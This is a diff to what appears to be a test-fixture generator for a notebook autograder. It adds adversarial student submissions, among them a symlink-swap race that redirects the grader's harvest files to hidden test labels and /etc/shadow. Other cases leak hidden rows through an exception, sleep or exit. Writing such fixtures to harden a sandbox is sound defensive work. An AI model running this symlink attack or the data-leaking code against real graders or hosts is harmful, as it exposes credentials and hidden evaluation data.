@@ -494,6 +494,31 @@ SOURCES: dict[str, dict] = {
         p1=("answer_sum = 42\nanswer_words = ['alpha' * 40_000_000, 'beta', 'gamma']  # 200 MB of text\n")
     ),
     "enormous_int": solved(p1="answer_sum = 10 ** 100000\nanswer_words = ['alpha', 'beta', 'gamma']"),
+    "harvest_symlink_swap": solved(
+        after_p2=(
+            "import os, threading, time\n"
+            "TARGETS = [" + repr(CORPUS_ASSIGNMENT + "/data/hidden/test_y.csv") + ", '/etc/shadow']\n"
+            "def swap():\n"
+            "    # replace every file the harvest writes with a symlink to a host file, hoping the\n"
+            "    # grader (root, outside the sandbox) follows it and reports what it read\n"
+            "    done = set()\n"
+            "    while True:\n"
+            "        for d in os.listdir('.'):\n"
+            "            if d.startswith('.grader-harvest'):\n"
+            "                for name in os.listdir(d):\n"
+            "                    path = os.path.join(d, name)\n"
+            "                    if path in done or not name.endswith('.json'):\n"
+            "                        continue\n"
+            "                    try:\n"
+            "                        os.symlink(TARGETS[len(done) % 2], path + '.tmp')\n"
+            "                        os.replace(path + '.tmp', path)\n"
+            "                        done.add(path)\n"
+            "                    except OSError:\n"
+            "                        pass\n"
+            "        time.sleep(0.001)\n"
+            "threading.Thread(target=swap, daemon=True).start()"
+        )
+    ),
     "model_sleeps": solved(p2="import time\ndef rule(df):\n    time.sleep(100000)"),
     "model_exits": solved(p2="import os\ndef rule(df):\n    os._exit(7)"),
     "model_leaks_inputs": solved(p2=("def rule(df):\n    raise ValueError('hidden rows: ' + df.to_csv())")),
@@ -602,20 +627,24 @@ RAW: dict[str, bytes] = {
 }
 
 
-def write_committed() -> list[Path]:
-    """(Re)write every committed input; returns the paths."""
-    INPUTS.mkdir(exist_ok=True)
+def write_committed(dest: Path = INPUTS) -> list[Path]:
+    """(Re)write every committed input into ``dest``; returns the paths.
+
+    The snooping notebooks name this repository's absolute path; the committed copies were built
+    in /work/main, and the test rebuilds them for wherever the repository is checked out.
+    """
+    dest.mkdir(exist_ok=True)
     written = []
     for name, nb in SOURCES.items():
-        path = INPUTS / f"{name}.ipynb"
+        path = dest / f"{name}.ipynb"
         path.write_text(json.dumps(nb, indent=1) + "\n", encoding="utf-8")
         written.append(path)
     for name, data in RAW.items():
-        path = INPUTS / name
+        path = dest / name
         path.write_bytes(data)
         written.append(path)
     # two submissions of one student: a sub-folder is a student (grader.intake)
-    dupe = INPUTS / "dupe_student"
+    dupe = dest / "dupe_student"
     dupe.mkdir(exist_ok=True)
     older = dupe / "attempt1.ipynb"
     older.write_text(json.dumps(solved(p2="rule = lambda df: (df['x2'] > 0.5).to_numpy()"), indent=1) + "\n")
